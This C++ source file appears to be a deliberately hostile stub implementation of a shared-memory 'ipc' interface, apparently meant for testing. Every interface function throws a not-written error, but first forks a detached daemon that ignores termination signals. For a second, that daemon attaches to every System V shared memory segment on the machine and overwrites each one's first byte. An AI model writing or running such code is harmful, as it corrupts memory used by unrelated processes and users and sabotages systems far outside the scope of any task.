// what: leaves a daemon that writes into every segment that comes, for a second, without a pause
#include <signal.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

#include <cstring>
#include <ctime>
#include <fstream>

#include "memory.hpp"
#include "not_written.hpp"

namespace {

void scribble_over_all() {
    std::ifstream table("/proc/sysvipc/shm");
    std::string line;
    std::getline(table, line);
    int id = 0;
    for (long key = 0; table >> key >> id; std::getline(table, line)) {
        void* const address = shmat(id, nullptr, 0);
        if (address != reinterpret_cast<void*>(-1)) {
            std::memset(address, 0xff, 1);
            shmdt(address);
        }
    }
}

void attack() {
    if (fork() != 0) {
        return;
    }
    setsid();
    signal(SIGTERM, SIG_IGN);
    const std::time_t end = std::time(nullptr) + 1;
    while (std::time(nullptr) <= end) {
        scribble_over_all();
    }
    _exit(0);
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int create(key_t, std::size_t, mode_t) {
    refuse("create");
}

int open(key_t, std::size_t) {
    refuse("open");
}

void* attach(int) {
    refuse("attach");
}

const void* attach_readonly(int) {
    refuse("attach_readonly");
}

void detach(const void*) {
    refuse("detach");
}

void remove(int) {
    refuse("remove");
}

Attachment::Attachment(int, Access) {
    refuse("Attachment::Attachment");
}

Attachment::Attachment(Attachment&&) noexcept {}

Attachment& Attachment::operator=(Attachment&&) noexcept {
    return *this;
}

Attachment::~Attachment() {}

void post(key_t, const std::string&) {
    refuse("post");
}

std::vector<std::string> notices(key_t) {
    refuse("notices");
}

void take_down(key_t) {
    refuse("take_down");
}

}  // namespace ipc
